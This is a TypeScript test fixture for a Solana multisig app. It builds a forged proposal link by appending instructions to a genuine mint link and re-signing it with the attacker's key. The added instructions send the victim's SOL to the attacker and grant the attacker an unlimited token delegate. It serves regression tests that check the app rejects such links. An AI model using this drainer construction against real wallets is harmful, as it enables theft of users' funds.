// An attacker's proposal, for tests: a real proposal link (a mint through a multisig that names the
// victim as a signer) with instructions added after it that drain the victim, re-signed by the attacker.
// This is what a link from a stranger can carry; the app must refuse it before the victim signs.
import { getTransferSolInstruction } from '@solana-program/system';
import { getApproveInstruction, TOKEN_2022_PROGRAM_ADDRESS } from '@solana-program/token-2022';
import {
  appendTransactionMessageInstructions,
  compileTransaction,
  createNoopSigner,
  decompileTransactionMessage,
  getCompiledTransactionMessageDecoder,
  getTransactionDecoder,
  getTransactionEncoder,
  partiallySignTransaction,
  type Address,
  type Instruction,
  type KeyPairSigner,
} from '@solana/kit';
import { decodeProposalLink, encodeProposalLink } from '@/data-source/proposal-link';

/** The drain a "Mint 1,000" link hid in issue 30: the victim's SOL to the attacker, and a delegate over their tokens. */
export function drainOf(
  victim: Address,
  attacker: Address,
  { lamports, tokenAccount }: { lamports: bigint; tokenAccount?: Address },
) {
  const owner = createNoopSigner(victim);
  const instructions: Instruction[] = [
    getTransferSolInstruction({ source: owner, destination: attacker, amount: lamports }),
  ];
  if (tokenAccount) {
    instructions.push(
      getApproveInstruction(
        { source: tokenAccount, delegate: attacker, owner, amount: 2n ** 64n - 1n },
        { programAddress: TOKEN_2022_PROGRAM_ADDRESS },
      ),
    );
  }
  return instructions;
}

/** The link's transaction with `extra` appended, signed anew by the attacker (its proposer): a valid link. */
export async function withInstructions(
  link: string,
  extra: readonly Instruction[],
  attacker: KeyPairSigner,
): Promise<string> {
  const data = decodeProposalLink(link);
  const transaction = getTransactionDecoder().decode(data.wire);
  const message = decompileTransactionMessage(getCompiledTransactionMessageDecoder().decode(transaction.messageBytes));
  const grown = compileTransaction(appendTransactionMessageInstructions(extra, message));
  const signed = await partiallySignTransaction([attacker.keyPair], grown);
  return encodeProposalLink({ ...data, wire: new Uint8Array(getTransactionEncoder().encode(signed)) });
}
